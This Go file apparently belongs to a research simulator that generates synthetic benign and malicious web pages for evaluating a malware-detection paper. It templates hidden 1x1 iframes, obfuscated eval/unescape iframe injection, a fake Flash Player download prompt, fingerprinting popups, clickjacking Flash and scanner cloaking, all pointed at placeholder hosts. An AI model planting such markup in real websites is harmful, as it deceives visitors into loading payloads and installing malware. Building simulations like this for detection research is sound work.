package web

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"repro/internal/jsengine"
	"repro/internal/simrand"
	"repro/internal/swf"
)

// renderCtx carries the shared infrastructure hostnames page renderers
// reference.
type renderCtx struct {
	// payloadHost serves the content hidden iframes load (qservz analog).
	payloadHost string
	// adHost is the bogus ad network (AdHitz analog).
	adHost string
	// dropHost serves deceptive executables (yupfiles analog).
	dropHost string
	// swfHost is the Flash CDN (static.yupfiles analog).
	swfHost string
	// analyticsHost is the benign analytics endpoint (§V-E FP shape).
	analyticsHost string
	// oauthHost is the benign OAuth relay endpoint (§V-E FP shape).
	oauthHost string
}

// renderScratch is one render's working state: the page substream and
// the buffer the body is assembled in. Both come from scratchPool and
// never escape a render — the response gets an exact-size copy of the
// buffer — so a miss allocates only the body and the response.
type renderScratch struct {
	rng simrand.Source
	buf []byte
}

var scratchPool = sync.Pool{New: func() any { return new(renderScratch) }}

// Every renderer appends a whole page to dst: the benign body, then the
// kind's payload, then pageClose. Draws happen in the order the markup
// is written, except where a renderer says otherwise.
const pageClose = "</body></html>\n"

// appendBenignPage appends an ordinary content page.
func appendBenignPage(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
	return append(appendBenignBody(dst, s, path, rng), pageClose...)
}

// appendBenignBody appends an ordinary content page up to its closing
// tags. A slice of benign sites carries the analytics loader or OAuth
// relay iframe — the shapes behind the paper's false-positive case
// studies.
func appendBenignBody(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
	dst = append(dst, "<html><head><title>"...)
	dst = appendTitle(dst, s)
	dst = append(dst, "</title></head><body>\n<h1>"...)
	dst = appendTitle(dst, s)
	dst = append(dst, "</h1>\n"...)
	paras := rng.Range(2, 5)
	for i := 0; i < paras; i++ {
		dst = append(dst, "<p>"...)
		words := rng.Range(20, 60)
		for w := 0; w < words; w++ {
			dst = rng.AppendWord(dst, 3, 9)
			dst = append(dst, ' ')
		}
		dst = append(dst, "</p>\n"...)
	}
	// Same-site navigation links.
	for _, p := range s.Pages {
		if p != path {
			dst = append(dst, `<a href="http://`...)
			dst = append(dst, s.Host...)
			dst = append(dst, p...)
			dst = append(dst, `">`...)
			dst = append(dst, strings.TrimPrefix(p, "/")...)
			dst = append(dst, "</a>\n"...)
		}
	}
	if s.HasAnalytics {
		dst = appendAnalyticsSnippet(dst, s)
	}
	if s.HasOAuthFrame {
		dst = appendOAuthRelaySnippet(dst, s)
	}
	if s.HasBrochure {
		dst = append(dst, `<a href="http://`...)
		dst = append(dst, s.Host...)
		dst = append(dst, "/brochure.pdf\">Download our brochure (PDF)</a>\n"...)
	}
	return dst
}

// appendTitle appends the page title: the host's first label with its
// first letter upper-cased, then the category. Generated hosts
// (uniqueDomain) have an [a-z0-9]+ first label, for which this is what
// strings.Title gives.
func appendTitle(dst []byte, s *Site) []byte {
	label, _, _ := strings.Cut(s.Host, ".")
	n := len(dst)
	dst = append(dst, label...)
	if label != "" && 'a' <= dst[n] && dst[n] <= 'z' {
		dst[n] -= 'a' - 'A'
	}
	dst = append(dst, " — "...)
	return append(dst, s.Category...)
}

// appendAnalyticsSnippet appends the Google-Analytics-loader shape of
// §V-E Code 8.
func appendAnalyticsSnippet(dst []byte, s *Site) []byte {
	dst = append(dst, `<script>
(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.simalytics.net/analytics.js','ga');
ga('create', 'UA-`...)
	var digits [20]byte
	id := strconv.AppendInt(digits[:0], int64(len(s.Host)*1234567%99999999), 10)
	for i := len(id); i < 8; i++ {
		dst = append(dst, '0')
	}
	dst = append(dst, id...)
	return append(dst, `-1', 'auto');
ga('send', 'pageview');
</script>
`...)
}

// appendOAuthRelaySnippet appends the 1x1 offscreen OAuth relay of §V-E
// Code 7.
func appendOAuthRelaySnippet(dst []byte, s *Site) []byte {
	dst = append(dst, `<iframe name="oauth2relay503410543" id="oauth2relay503410543"
 src="https://accounts.google.sim/o/oauth2/postmessageRelay?parent=http%3A%2F%2F`...)
	dst = append(dst, s.Host...)
	return append(dst, `#rpctoken=1510319259"
 tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>
`...)
}

// appendBlacklistedPage appends a page on a blacklisted domain: ordinary
// content that monetizes through a bogus ad network. Detection rests on
// the domain's blacklist presence, not page structure.
func appendBlacklistedPage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	dst = appendBenignBody(dst, s, path, rng)
	dst = fmt.Appendf(dst, `<div class="ad-slot"><iframe src="http://%s/banner?zone=%s&pub=%s" width="468" height="60"></iframe></div>
<!-- %s -->
`, ctx.adHost, rng.Token(6), s.Host, s.FamilyToken)
	return append(dst, pageClose...)
}

// appendJSMalwarePage appends a MaliciousJS page in the site's variant.
func appendJSMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	dst = appendBenignBody(dst, s, path, rng)
	switch s.Variant {
	case JSTinyIframe:
		dst = fmt.Appendf(dst, `<iframe align="right" height="1" name="cwindow" scrolling="NO" src="http://%s/t.php?c=%s" style="border:0 solid #990000;" width="1"></iframe>
<!-- %s -->
`, ctx.payloadHost, rng.Token(10), s.FamilyToken)
	case JSInvisibleIframe:
		dst = fmt.Appendf(dst, `<iframe src="https://%s/a.php?t=29&o=pix&f=%s&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
<!-- %s -->
`, ctx.payloadHost, rng.Token(12), s.FamilyToken)
	case JSObfuscatedInjection:
		inner := fmt.Sprintf(`document.write('<iframe allowtransparency="true" scrolling="no" frameborder="0" border="0" width="1" height="1" marginwidth="0" marginheight="0" src="http://%s/ai.aspx?tc=%s&url=http://%s/1x1.gif"></iframe>');`,
			ctx.payloadHost, rng.HexToken(32), ctx.payloadHost)
		layers := rng.Range(1, 3)
		obf := inner
		for i := 0; i < layers; i++ {
			obf = `eval(unescape("` + jsengine.Escape(obf) + `"));`
		}
		dst = append(dst, "<script>var "...)
		dst = append(dst, s.FamilyToken...)
		dst = append(dst, " = 1;\n"...)
		dst = append(dst, obf...)
		dst = append(dst, "</script>\n"...)
	case JSDeceptiveDownload:
		dst = appendDeceptiveDownload(dst, s, rng, ctx)
	case JSFingerprinting:
		dst = fmt.Appendf(dst, `<script>
var %s = navigator.userAgent + "|" + screen.width + "x" + screen.height;
document.addEventListener("mousemove", function() {
  window.open("http://%s/pop?sid=%s");
});
</script>
`, s.FamilyToken, ctx.adHost, rng.Token(8))
	default:
		dst = append(dst, "<!-- "...)
		dst = append(dst, s.FamilyToken...)
		dst = append(dst, " -->"...)
	}
	return append(dst, pageClose...)
}

// appendDeceptiveDownload appends the §V-B fake install prompt: bait text
// plus an anchor that downloads Flash-Player.exe from the dropper host. A
// fraction of these pages also link the dropper's exploit document (an
// auto-open-JavaScript PDF). The prompt's id is drawn before the link
// token that precedes it in the markup.
func appendDeceptiveDownload(dst []byte, s *Site, rng *simrand.Source, ctx renderCtx) []byte {
	if rng.Bool(0.4) {
		dst = fmt.Appendf(dst, "<a href=\"http://%s/doc/invoice-%s.pdf\">View invoice (PDF)</a>\n", ctx.dropHost, rng.Token(6))
	}
	id := rng.HexToken(16)
	return fmt.Appendf(dst, `<div id="dm_topbar">
<a href="data:text/html,%%3Chtml%%3E%%3Cscript%%3Ewindow.location.href%%3D%%22http%%3A%%2F%%2F%s%%2Fc%%3Fx%%3D%s%%26downloadAs%%3DFlash-Player.exe%%22%%3B%%3C/script%%3E"
 data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1" target="_blank"
 data-dm-href="http://%s/downloader?id=%s" data-dm-filename="null" class="download_link">
<div id="dm_topbar_block">
<span id="dm_topbar_text">A pagina necessita do plugin para continuar.</span>
<span id="dm_topbar_link">Instalar plug-in</span>
</div></a></div>
<!-- %s -->
`, ctx.dropHost, rng.HexToken(24), ctx.dropHost, id, s.FamilyToken)
}

// appendFlashMalwarePage appends a page embedding the AdFlash-style movie
// from the SWF CDN.
func appendFlashMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	dst = appendBenignBody(dst, s, path, rng)
	dst = fmt.Appendf(dst, `<embed src="http://%s/swf/AdFlash%d.swf" type="application/x-shockwave-flash" width="100%%" height="100%%" wmode="transparent"></embed>
<!-- %s -->
`, ctx.swfHost, rng.Range(10, 99), s.FamilyToken)
	return append(dst, pageClose...)
}

// appendMiscMalwarePage appends a page with family markers but no
// structural category evidence: the Miscellaneous bucket.
func appendMiscMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
	dst = appendBenignBody(dst, s, path, rng)
	dst = append(dst, "<script>var "...)
	dst = append(dst, s.FamilyToken...)
	dst = append(dst, ` = "`...)
	dst = append(dst, rng.Token(16)...)
	dst = append(dst, "\";</script>\n"...)
	return append(dst, pageClose...)
}

// renderLandingPage is the final page of a redirect chain: an offerwall
// carrying the family token.
func renderLandingPage(s *Site, ctx renderCtx) string {
	return fmt.Sprintf(`<html><head><title>Special Offer</title></head><body>
<h1>Your download is ready</h1>
<a href="http://%s/get?f=installer.exe">Download now</a>
<script>var %s = 1;</script>
</body></html>
`, ctx.dropHost, s.FamilyToken)
}

// buildAdFlashMovie assembles the §V-D movie served by the SWF CDN.
func buildAdFlashMovie(rng *simrand.Source) []byte {
	sb := swf.NewScript().Obfuscate(byte(rng.Range(1, 255)))
	handler := sb.NewSegment()
	sb.AllowDomain(0, "*")
	sb.SetScaleMode(0, "EXACT_FIT")
	sb.Listen(0, "mouseUp", handler)
	sb.ExternalCall(handler, "AdFlash.onClick")
	sb.DisplayState(handler, "fullScreen")
	sb.ExternalCall(handler, "window."+rng.LowerToken(6))
	sb.DisplayState(handler, "normal")
	return swf.NewBuilder(800, 600).
		Meta("name", fmt.Sprintf("AdFlash%d", rng.Range(10, 99))).
		AddClickArea(swf.ClickArea{X: 0, Y: 0, W: 800, H: 600, Alpha: 0}).
		Script(sb).
		Encode()
}

// appendCleanVariant appends the page a cloaked site shows scanner bots:
// the same page rendered as if it were benign.
func appendCleanVariant(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
	clone := *s
	clone.HasAnalytics = false
	clone.HasOAuthFrame = false
	return appendBenignPage(dst, &clone, path, rng)
}
